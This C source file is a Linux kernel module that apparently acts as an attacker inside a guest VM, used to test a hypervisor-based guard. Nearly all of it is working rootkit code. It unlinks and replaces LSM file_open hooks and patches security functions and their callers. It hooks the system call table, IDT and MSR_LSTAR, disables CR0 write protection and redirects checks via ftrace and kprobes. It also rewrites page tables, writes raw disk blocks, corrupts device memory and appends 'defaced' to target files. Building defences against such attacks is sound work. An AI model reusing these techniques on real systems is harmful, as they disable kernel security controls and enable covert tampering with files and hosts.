// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Code in the guest's kernel, as an attacker would have it there: a stock kernel's module, built by lab/module. It does one thing
 * when it is loaded, and says the moment on port 0xe9, where a host that listens takes the time.
 *
 *	insmod attack.ko how=NAME [path=FILE] [disk=DEVICE block=N] [pid=N]
 *
 * /sys/module/attack/parameters: back_ns, how long what was changed stayed so (0: it was not put back in `patience` ms);
 * worked: 1 when what the attack wanted of the kernel was done.
 */
#include <linux/bio.h>
#include <linux/blkdev.h>
#include <linux/cred.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/io.h>
#include <linux/kprobes.h>
#include <linux/ktime.h>
#include <linux/lsm_hooks.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/mount.h>
#include <linux/namei.h>
#include <linux/pci.h>
#include <linux/sched.h>
#include <linux/stop_machine.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>

static char *how = "";
module_param(how, charp, 0444);
static char *path = "";
module_param(path, charp, 0444);
static char *disk = "/dev/nvme0n1";
module_param(disk, charp, 0444);
static ulong block;
module_param(block, ulong, 0444);
static uint patience = 3000;
module_param(patience, uint, 0444);
static ulong back_ns;
module_param(back_ns, ulong, 0444);
static int worked;
module_param(worked, int, 0444);

#define WINDOW_END 0xffffffffc0000000UL /* of the kernel image's own GiB */
#define VAULT PCI_DEVFN(1, 0)
#define MAILBOX PCI_DEVFN(2, 0)

static const u8 returns_0[] = { 0x31, 0xc0, 0xc3 };
static const u8 yields_0[] = { 0x2e, 0x2e, 0x2e, 0x31, 0xc0 }; /* as long as a call */

/* kallsyms_lookup_name() is not for modules, but a probe finds it. */
static unsigned long (*lookup)(const char *name);

static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int r = register_kprobe(&probe);

	if (r < 0)
		return r;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

static void mark(void)
{
	outb('!', 0xe9);
}

/* --- writing where the kernel does not let itself write ------------------------------------------------------------------- */

static phys_addr_t physical(unsigned long address)
{
	unsigned int level;
	pte_t *(*walk)(unsigned long, unsigned int *) = (void *)lookup("lookup_address");
	pte_t *pte = walk ? walk(address, &level) : NULL;
	unsigned long size;

	if (!pte)
		return 0;
	size = level == PG_LEVEL_2M ? PMD_SIZE : level == PG_LEVEL_1G ? PUD_SIZE : PAGE_SIZE;
	return ((pte_val(*pte) & PTE_PFN_MASK) & ~(size - 1)) | (address & (size - 1));
}

/* A mapping of one's own, by which read-only memory can be written. */
struct alias {
	u8 *map, *at;
};

static int alias_make(struct alias *alias, unsigned long address)
{
	phys_addr_t pa = physical(address);
	struct page *pages[2] = { NULL };

	if (!pa || !pfn_valid(pa >> PAGE_SHIFT))
		return -EFAULT;
	pages[0] = pfn_to_page(pa >> PAGE_SHIFT);
	pages[1] = pages[0] + 1;
	alias->map = vmap(pages, 2, VM_MAP, PAGE_KERNEL);
	alias->at = alias->map + (pa & ~PAGE_MASK);
	return alias->map ? 0 : -ENOMEM;
}

static void store(u8 *at, const void *bytes, size_t size)
{
	mark();
	if (size == 8)
		WRITE_ONCE(*(u64 *)at, *(const u64 *)bytes);
	else
		memcpy(at, bytes, size);
	sync_core();
}

/* Changes it, waits until somebody has put it back; in the end it is as it was, either way. */
static int change(unsigned long address, const void *bytes, size_t size)
{
	u64 start, limit = (u64)patience * NSEC_PER_MSEC;
	struct alias alias;
	u8 before[16];
	int r = alias_make(&alias, address);

	if (r < 0)
		return r;
	memcpy(before, alias.at, size);
	store(alias.at, bytes, size);
	start = ktime_get_ns();
	worked = 1;
	while (memcmp(alias.at, before, size) != 0 && ktime_get_ns() - start < limit)
		usleep_range(200, 400);
	if (memcmp(alias.at, before, size) == 0)
		back_ns = ktime_get_ns() - start;
	else
		memcpy(alias.at, before, size);
	vunmap(alias.map);
	return 0;
}

static int change_word(unsigned long address, u64 value)
{
	return address ? change(address, &value, 8) : -ENOENT;
}

/* --- the hooks -------------------------------------------------------------------------------------------------------------- */

#if !__has_include(<linux/lsm_count.h>) /* Linux 6.11 and older: lists */
static struct hlist_node **last_link(struct hlist_head *head)
{
	struct hlist_node **link;

	for (link = &head->first; *link && (*link)->next;)
		link = &(*link)->next;
	return *link ? link : NULL;
}

static struct security_hook_list *node_of(struct hlist_head *head)
{
	struct hlist_node **link = last_link(head);

	return link ? hlist_entry(*link, struct security_hook_list, list) : NULL;
}

static int unlink_hook(void)
{
	struct security_hook_heads *heads = (void *)lookup("security_hook_heads");

	return heads ? change_word((unsigned long)last_link(&heads->file_open), 0) : -ENOENT;
}

static int cut_list(void)
{
	struct security_hook_heads *heads = (void *)lookup("security_hook_heads");

	return heads ? change_word((unsigned long)&heads->file_open, 0) : -ENOENT;
}

/* The hooks' own function, by the node in the vault. */
static unsigned long guard_function(void)
{
	struct security_hook_heads *heads = (void *)lookup("security_hook_heads");
	struct security_hook_list *node = heads ? node_of(&heads->file_open) : NULL;

	return node ? (unsigned long)node->hook.file_open : 0;
}

/* A node of the attacker's in the place of the guard's. */
static int allow(struct file *file)
{
	return 0;
}

static struct security_hook_list own_node = { .hook.file_open = allow };

static int replace_hook(void)
{
	struct security_hook_heads *heads = (void *)lookup("security_hook_heads");

	return heads ? change_word((unsigned long)last_link(&heads->file_open),
				   (unsigned long)&own_node.list)
		     : -ENOENT;
}

struct all {
	unsigned long *where[400];
	u64 was[400];
	int n;
};

/* All that end in the window, at once. */
static int unlink_all(void)
{
	struct hlist_head *heads = (void *)lookup("security_hook_heads");
	struct alias alias;
	int r, n = sizeof(struct security_hook_heads) / sizeof(*heads), cut = 0;
	u64 start, limit = (u64)patience * NSEC_PER_MSEC;
	struct hlist_node **file_open;

	if (!heads)
		return -ENOENT;
	file_open = last_link(&((struct security_hook_heads *)(void *)heads)->file_open);
	mark();
	for (int i = 0; i < n; i++) {
		struct hlist_node **link = last_link(&heads[i]);
		unsigned long node = link ? (unsigned long)*link : 0;

		if (node < lookup("_end") || node >= WINDOW_END)
			continue;
		r = alias_make(&alias, (unsigned long)link);
		if (r < 0)
			return r;
		WRITE_ONCE(*(u64 *)alias.at, 0);
		vunmap(alias.map);
		cut++;
	}
	worked = cut > 0;
	start = ktime_get_ns();
	while (!READ_ONCE(*file_open) && ktime_get_ns() - start < limit)
		usleep_range(200, 400);
	back_ns = READ_ONCE(*file_open) ? ktime_get_ns() - start : 0;
	return 0;
}
#else /* calls in the text */
static unsigned long guard_call(void)
{
	unsigned long text = lookup("security_file_open"), end = lookup("_end"), at;

	for (at = text; text && at < text + 1024; at++) {
		unsigned long target = at + 5 + *(s32 *)(at + 1);

		if (*(u8 *)at == 0xe8 && target >= end && target < WINDOW_END)
			return at;
	}
	return 0;
}

static unsigned long guard_function(void)
{
	unsigned long at = guard_call();

	return at ? at + 5 + *(s32 *)(at + 1) : 0;
}

static int unlink_hook(void)
{
	unsigned long at = guard_call();

	return at ? change(at, yields_0, sizeof(yields_0)) : -ENOENT;
}

static int cut_list(void)
{
	return -EOPNOTSUPP;
}

static int replace_hook(void)
{
	return -EOPNOTSUPP;
}

static int unlink_all(void)
{
	return -EOPNOTSUPP;
}
#endif

/* --- the guard's memory ----------------------------------------------------------------------------------------------------- */

/* By a mapping of one's own of the vault's memory; does the byte change? */
static int write_vault(unsigned long address)
{
	phys_addr_t pa = physical(address);
	u8 __iomem *map = pa ? ioremap(pa & PAGE_MASK, PAGE_SIZE) : NULL;
	u8 before;

	if (!map)
		return -ENOMEM;
	map += pa & ~PAGE_MASK;
	before = readb(map);
	mark();
	writeb(before ^ 0xff, map);
	worked = readb(map) != before;
	iounmap(map);
	return 0;
}

static int write_guard(void)
{
	unsigned long at = guard_function();

	return at ? write_vault(at) : -ENOENT;
}

/* All of this processor's, global ones too. */
static void flush(void)
{
	unsigned long cr4;

	asm volatile("mov %%cr4, %0" : "=r"(cr4));
	asm volatile("mov %0, %%cr4" ::"r"(cr4 ^ X86_CR4_PGE) : "memory");
	asm volatile("mov %0, %%cr4" ::"r"(cr4) : "memory");
}

static u64 *window_entry(unsigned long address)
{
	u64 *table = (void *)lookup("level2_kernel_pgt");

	return table ? &table[(address >> 21) & 511] : NULL;
}

/* Makes the guard's page writable in the guest's own page table, and writes. */
static int write_guard_by_table(void)
{
	unsigned long at = guard_function();
	u64 *entry = at ? window_entry(at) : NULL;
	u8 before;

	if (!entry)
		return -ENOENT;
	before = READ_ONCE(*(u8 *)at);
	mark();
	WRITE_ONCE(*entry, *entry | _PAGE_RW);
	flush();
	WRITE_ONCE(*(u8 *)at, before ^ 0xff);
	worked = READ_ONCE(*(u8 *)at) != before;
	msleep(patience);
	return 0;
}

/* The last entry but one that leads to what is no RAM, and is read-only: a small policy has nothing there. */
static int clear_window(void)
{
	u64 *table = (void *)lookup("level2_kernel_pgt");
	int seen = 0;

	for (int i = 511; table && i >= 0; i--) {
		u64 entry = table[i];

		if (entry & _PAGE_PRESENT && !(entry & _PAGE_RW) && entry & _PAGE_PSE &&
		    !pfn_valid((entry & PTE_PFN_MASK) >> PAGE_SHIFT) && ++seen == 2)
			return change_word((unsigned long)&table[i], 0);
	}
	return -ENOENT;
}

/* Tables for this process alone, in which the guard's page is a copy that refuses nothing. */
static int private_tables(void)
{
	unsigned long at = guard_function(), from = at & PMD_MASK;
	u64 *table = (void *)lookup("level2_kernel_pgt"), *pmds, *puds, *pgd, was;
	struct page *copy = alloc_pages(GFP_KERNEL | __GFP_NOWARN, 9);
	struct file *file;

	pmds = (u64 *)get_zeroed_page(GFP_KERNEL);
	puds = (u64 *)get_zeroed_page(GFP_KERNEL);
	if (!at || !table || !copy || !pmds || !puds)
		return -ENOMEM;
	memcpy(page_address(copy), (void *)from, PMD_SIZE);
	memcpy(page_address(copy) + (at - from), returns_0, sizeof(returns_0));
	memcpy(pmds, table, PAGE_SIZE);
	pmds[(at >> 21) & 511] = page_to_phys(copy) | _PAGE_PRESENT | _PAGE_PSE | _PAGE_ACCESSED |
				 _PAGE_DIRTY;
	pgd = (u64 *)__va(read_cr3_pa());
	was = pgd[511];
	memcpy(puds, __va(was & PTE_PFN_MASK), PAGE_SIZE);
	puds[510] = (puds[510] & ~PTE_PFN_MASK) | __pa(pmds);
	/* Other processors may still have the guard's own page at hand. */
	set_cpus_allowed_ptr(current, cpumask_of(raw_smp_processor_id()));
	mark();
	preempt_disable();
	WRITE_ONCE(pgd[511], (pgd[511] & ~PTE_PFN_MASK) | __pa(puds));
	flush();
	preempt_enable();
	file = filp_open(path, O_WRONLY | O_APPEND, 0);
	worked = !IS_ERR(file);
	if (worked) {
		loff_t end = 0;

		kernel_write(file, "defaced\n", 8, &end);
		filp_close(file, NULL);
	}
	msleep(patience);
	WRITE_ONCE(pgd[511], was);
	flush();
	return 0;
}

/* --- the kernel's text and tables ------------------------------------------------------------------------------------------- */

/* The function returns at once: behind the place that ftrace has. */
static int patch_function(const char *name)
{
	unsigned long at = lookup(name);

	if (at && *(u32 *)at == 0xfa1e0ff3) /* endbr64 */
		at += 4;
	return at ? change(at + 5, returns_0, sizeof(returns_0)) : -ENOENT;
}

/* do_dentry_open() does not ask: its call of security_file_open() yields 0. */
static int patch_caller(void)
{
	unsigned long text = lookup("do_dentry_open"), to = lookup("security_file_open");

	for (unsigned long at = text; text && at < text + 2048; at++)
		if (*(u8 *)at == 0xe8 && at + 5 + *(s32 *)(at + 1) == to)
			return change(at, yields_0, sizeof(yields_0));
	return -ENOENT;
}

static asmlinkage long (*real_call)(const struct pt_regs *regs);

static asmlinkage long own_call(const struct pt_regs *regs)
{
	return real_call(regs);
}

static int hook_system_call(void)
{
	unsigned long *table = (void *)lookup("sys_call_table");

	if (!table)
		return -ENOENT;
	real_call = (void *)table[__NR_openat];
	return change_word((unsigned long)&table[__NR_openat], (unsigned long)own_call);
}

/* The entry of a vector that never comes (9) leads elsewhere. */
static int change_idt(void)
{
	struct desc_ptr idt;
	u64 entry[2];

	store_idt(&idt);
	memcpy(entry, (void *)(idt.address + 9 * 16), 16);
	return change_word(idt.address + 9 * 16, entry[0] ^ 0x10);
}

static unsigned long entry_was __used;
asm(".pushsection .text\n"
    "own_entry:\n"
    "	jmp *entry_was(%rip)\n"
    "	int3\n"
    ".popsection");
extern char own_entry[];

/* System calls of this CPU come by here first, of whoever runs there. With page-table isolation this page would not be there yet. */
static int change_entry(void)
{
	u64 start, now, limit = (u64)max(patience, 8000u) * NSEC_PER_MSEC;

	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	migrate_disable();
	rdmsrl(MSR_LSTAR, entry_was);
	mark();
	wrmsrl(MSR_LSTAR, (u64)(unsigned long)own_entry);
	start = ktime_get_ns();
	worked = 1;
	do {
		usleep_range(200, 400);
		rdmsrl(MSR_LSTAR, now);
	} while (now != entry_was && ktime_get_ns() - start < limit);
	if (now == entry_was)
		back_ns = ktime_get_ns() - start;
	else
		wrmsrl(MSR_LSTAR, entry_was);
	migrate_enable();
	return 0;
}

/* The same, by somebody who lets nobody else run on that CPU: maybe the guard's worker would have. */
static int hold_entry(void)
{
	u64 now;

	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	rdmsrl(MSR_LSTAR, entry_was);
	preempt_disable();
	mark();
	wrmsrl(MSR_LSTAR, (u64)(unsigned long)own_entry);
	worked = 1;
	mdelay(min(patience, 2500u));
	rdmsrl(MSR_LSTAR, now);
	back_ns = now == entry_was;
	wrmsrl(MSR_LSTAR, entry_was);
	preempt_enable();
	return 0;
}

static int drop_write_protection(void)
{
	unsigned long cr0 = read_cr0();
	u64 start = ktime_get_ns();

	preempt_disable();
	mark();
	asm volatile("mov %0, %%cr0" ::"r"(cr0 & ~X86_CR0_WP) : "memory");
	worked = 1;
	/* The sentry asks once a second, and believes it the second time. mdelay() is no clock in an emulated processor. */
	while (ktime_get_ns() - start < 4500 * NSEC_PER_MSEC)
		cpu_relax();
	asm volatile("mov %0, %%cr0" ::"r"(cr0) : "memory");
	preempt_enable();
	return 0;
}

/* --- what the kernel offers for patching ------------------------------------------------------------------------------------ */

static unsigned long a_return;

static void notrace skip_function(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
				  struct ftrace_regs *regs)
{
	struct pt_regs *r = ftrace_get_regs(regs);

	if (r) {
		r->ax = 0;
		r->ip = a_return;
	}
}

static noinline notrace int nothing_refused(void)
{
	return 0;
}

static struct ftrace_ops skip = { .func = skip_function,
				  .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY };

/* As a live patch: ftrace leads the calls of security_file_open() elsewhere. */
static int live_patch(void)
{
	int r;

	a_return = (unsigned long)nothing_refused;
	r = ftrace_set_filter(&skip, "security_file_open", 18, 1);
	mark();
	r = r ?: register_ftrace_function(&skip);
	if (r)
		return r;
	worked = 1;
	msleep(patience);
	unregister_ftrace_function(&skip);
	return 0;
}

static int skip_by_probe(struct kprobe *probe, struct pt_regs *regs)
{
	regs->ax = 0;
	regs->ip = (unsigned long)nothing_refused;
	return 1;
}

static int probe_override(void)
{
	static struct kprobe probe = { .symbol_name = "security_file_open",
				       .pre_handler = skip_by_probe };
	int r;

	mark();
	r = register_kprobe(&probe);
	if (r < 0)
		return r;
	worked = 1;
	msleep(patience);
	unregister_kprobe(&probe);
	return 0;
}

/* --- past the hooks --------------------------------------------------------------------------------------------------------- */

static int write_to(struct file *file)
{
	loff_t end = i_size_read(file_inode(file));
	ssize_t n = kernel_write(file, "defaced\n", 8, &end);

	worked = n == 8;
	return n < 0 ? n : 0;
}

static int open_and_write(int flags, bool forge)
{
	struct file *file;
	int r;

	mark();
	file = filp_open(path, flags, 0);
	if (IS_ERR(file))
		return 0; /* refused */
	if (forge) {
		file->f_mode |= FMODE_WRITE | FMODE_CAN_WRITE;
		get_write_access(file_inode(file));
	}
	r = write_to(file);
	vfs_fsync(file, 0);
	if (forge) {
		file->f_mode &= ~(FMODE_WRITE | FMODE_CAN_WRITE);
		put_write_access(file_inode(file));
	}
	filp_close(file, NULL);
	return r;
}

static int with_inode(int (*what)(struct path *found))
{
	struct path found;
	int r = kern_path(path, LOOKUP_FOLLOW, &found);

	if (r < 0)
		return r;
	mark();
	r = what(&found);
	path_put(&found);
	return r;
}

/* The file system's own function, not the kernel's that asks. */
static int unlink_below(struct path *found)
{
	struct dentry *above = dget_parent(found->dentry);
	struct inode *directory = d_inode(above);
	int r;

	inode_lock(directory);
	r = directory->i_op->unlink(directory, found->dentry);
	inode_unlock(directory);
	if (r == 0)
		d_drop(found->dentry);
	worked = r == 0;
	dput(above);
	return r;
}

static int other_generation(struct path *found)
{
	struct inode *inode = d_inode(found->dentry);
	u32 was = inode->i_generation;
	struct file *file;

	inode->i_generation++;
	file = filp_open(path, O_WRONLY | O_APPEND, 0);
	inode->i_generation = was;
	if (IS_ERR(file))
		return 0;
	write_to(file);
	filp_close(file, NULL);
	return 0;
}

static int other_number(struct path *found)
{
	struct inode *inode = d_inode(found->dentry);
	unsigned long was = inode->i_ino;
	struct file *file;

	inode->i_ino += 1000000000;
	file = filp_open(path, O_WRONLY | O_APPEND, 0);
	inode->i_ino = was;
	if (IS_ERR(file))
		return 0;
	write_to(file);
	filp_close(file, NULL);
	return 0;
}

static int write_disk(void)
{
	struct page *page = alloc_page(GFP_KERNEL | __GFP_ZERO);
	struct file *device = filp_open(disk, O_RDONLY, 0); /* to read is not refused */
	struct block_device *bdev;
	struct bio bio;
	struct bio_vec vector;
	int r;

	if (IS_ERR_OR_NULL(device) || !page)
		return -ENOENT;
	bdev = I_BDEV(device->f_mapping->host);
	memcpy(page_address(page), "defaced\n", 8);
	bio_init(&bio, bdev, &vector, 1, REQ_OP_WRITE | REQ_SYNC | REQ_FUA);
	bio.bi_iter.bi_sector = block * 8;
	__bio_add_page(&bio, page, PAGE_SIZE, 0);
	mark();
	r = submit_bio_wait(&bio);
	worked = r == 0;
	filp_close(device, NULL);
	__free_page(page);
	return r;
}

/* --- the mailbox, and the devices ------------------------------------------------------------------------------------------- */

static u8 __iomem *mailbox(size_t *ret_size)
{
	struct pci_dev *device = pci_get_domain_bus_and_slot(0, 0, MAILBOX);

	if (!device)
		return NULL;
	*ret_size = pci_resource_len(device, 2);
	return ioremap(pci_resource_start(device, 2), *ret_size);
}

/* fill: with which byte, or with noise (-1), or the first page's words each turned to their end (-2). */
static int spoil_mailbox(int fill)
{
	size_t size;
	u8 __iomem *map = mailbox(&size);
	u32 seed = 1;

	if (!map)
		return -ENOENT;
	mark();
	for (size_t i = 0; i < (fill == -2 ? 4096 : size); i += 8) {
		u64 value = fill >= 0 ? 0x0101010101010101ULL * (u8)fill : 0;

		seed = seed * 1103515245 + 12345;
		if (fill == -1)
			value = (u64)seed << 32 | seed;
		if (fill == -2)
			value = readq(map + i) + 0xfffffffffffffff0ULL;
		writeq(value, map + i);
	}
	worked = 1;
	iounmap(map);
	return 0;
}

/* For two seconds a vCPU writes to the ring without pause. */
static int flood_mailbox(void)
{
	u64 start = ktime_get_ns();
	int r = 0;

	while (r == 0 && ktime_get_ns() - start < 2 * NSEC_PER_SEC) {
		r = spoil_mailbox(-1);
		cond_resched();
	}
	return r;
}

/* The vault answers no more, where it was: whoever runs into a hook falls. */
static int hide_vault(void)
{
	struct pci_dev *device = pci_get_domain_bus_and_slot(0, 0, VAULT);
	u16 command;

	if (!device)
		return -ENOENT;
	mark();
	pci_read_config_word(device, PCI_COMMAND, &command);
	pci_write_config_word(device, PCI_COMMAND, command & ~PCI_COMMAND_MEMORY);
	worked = 1;
	return 0;
}

/* No timer, no interrupt, no other vCPU for as long as it takes. */
static int unlink_frozen(void *unused)
{
	struct alias *alias = unused;
	u64 before = *(u64 *)alias->at, zero = 0, left = 2000;

	store(alias->at, &zero, 8);
	worked = 1;
	while (left-- && *(volatile u64 *)alias->at != before)
		udelay(1000);
	back_ns = *(volatile u64 *)alias->at == before ? (2000 - left) * NSEC_PER_MSEC : 0;
	if (!back_ns)
		*(u64 *)alias->at = before;
	return 0;
}

static int frozen(void)
{
#if !__has_include(<linux/lsm_count.h>)
	struct security_hook_heads *heads = (void *)lookup("security_hook_heads");
	struct alias alias;
	int r = heads ? alias_make(&alias, (unsigned long)last_link(&heads->file_open)) : -ENOENT;

	if (r < 0)
		return r;
	r = stop_machine(unlink_frozen, &alias, NULL);
	vunmap(alias.map);
	return r;
#else
	return -EOPNOTSUPP;
#endif
}

/* --- which ------------------------------------------------------------------------------------------------------------------- */

static int patch_open(void)
{
	return patch_function("security_file_open");
}
static int patch_rename(void)
{
	return patch_function("security_inode_rename");
}
static int plain_write(void)
{
	return open_and_write(O_WRONLY | O_APPEND, false);
}
static int forged_mode(void)
{
	return open_and_write(O_RDONLY, true);
}
static int direct_unlink(void)
{
	return with_inode(unlink_below);
}
static int generation(void)
{
	return with_inode(other_generation);
}
static int number(void)
{
	return with_inode(other_number);
}
static int wipe(void)
{
	return spoil_mailbox(0);
}
static int ones(void)
{
	return spoil_mailbox(0xff);
}
static int noise(void)
{
	return spoil_mailbox(-1);
}
static int wrap(void)
{
	return spoil_mailbox(-2);
}

static const struct {
	const char *name;
	int (*run)(void);
} attacks[] = {
	{ "unlink-hook", unlink_hook },
	{ "unlink-all", unlink_all },
	{ "cut-list", cut_list },
	{ "replace-hook", replace_hook },
	{ "write-guard", write_guard },
	{ "write-guard-by-table", write_guard_by_table },
	{ "clear-window", clear_window },
	{ "private-tables", private_tables },
	{ "patch-open", patch_open },
	{ "patch-rename", patch_rename },
	{ "patch-caller", patch_caller },
	{ "system-call", hook_system_call },
	{ "idt", change_idt },
	{ "entry", change_entry },
	{ "entry-held", hold_entry },
	{ "write-protection", drop_write_protection },
	{ "live-patch", live_patch },
	{ "probe-override", probe_override },
	{ "plain-write", plain_write },
	{ "forged-mode", forged_mode },
	{ "direct-unlink", direct_unlink },
	{ "generation", generation },
	{ "number", number },
	{ "write-disk", write_disk },
	{ "wipe-mailbox", wipe },
	{ "ones-mailbox", ones },
	{ "noise-mailbox", noise },
	{ "wrap-mailbox", wrap },
	{ "flood-mailbox", flood_mailbox },
	{ "hide-vault", hide_vault },
	{ "frozen", frozen },
};

static int __init start(void)
{
	int r = find_lookup();

	for (size_t i = 0; r == 0 && i < ARRAY_SIZE(attacks); i++)
		if (!strcmp(how, attacks[i].name))
			return attacks[i].run();
	return r ?: -EINVAL;
}

static void __exit leave(void)
{
}

module_init(start);
module_exit(leave);
MODULE_DESCRIPTION("what an attacker in the guest's kernel does to outguard, for its tests");
MODULE_LICENSE("GPL");
